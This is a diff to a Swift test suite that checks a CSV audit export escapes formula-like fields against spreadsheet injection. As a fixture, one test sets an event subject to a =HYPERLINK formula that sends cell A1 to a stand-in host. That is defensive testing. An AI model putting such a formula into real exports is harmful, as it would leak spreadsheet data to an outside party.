@@ -86,6 +86,7 @@ struct AuditQueryTests {
             // What an API client controls (a decision's subject): never a formula in a spreadsheet.
             events[4].subject = "=HYPERLINK(\"http://x/?\"&A1,\"ok\")"
             events[1].object = "-1+2"
+            events[0].object = "'=already quoted"
             _ = try await store.appendAudit(events)
             var bytes: [UInt8] = []
             try await store.exportAudit(AuditQuery(), format: .csv) { bytes += $0 }
@@ -101,18 +102,14 @@ struct AuditQueryTests {
             #expect(rows.count == records.count + 1)
             #expect(rows[5][4].hasPrefix("'=HYPERLINK"), "\(rows[5])")
             #expect(rows[2][5] == "'-1+2")
+            #expect(rows[1][5] == "''=already quoted")
             for (row, record) in zip(rows.dropFirst(), records) {
                 #expect(row.count == 10)
                 #expect(row[0] == String(record.sequence))
                 #expect(row[2] == record.event.actor)
                 #expect(row[3] == record.event.type)
-                // A formula-like field is written with a leading ', dropped here.
-                func value(_ field: String) -> String {
-                    guard field.hasPrefix("'"), let next = field.dropFirst().first, "=+-@\t\r".contains(next) else {
-                        return field
-                    }
-                    return String(field.dropFirst())
-                }
+                // A formula-like field (or one starting with ') is written with a leading ', dropped here.
+                func value(_ field: String) -> String { field.hasPrefix("'") ? String(field.dropFirst()) : field }
                 #expect(value(row[4]) == record.event.subject ?? "")
                 #expect(value(row[5]) == record.event.object ?? "")
                 #expect(row[6] == record.event.outcome)
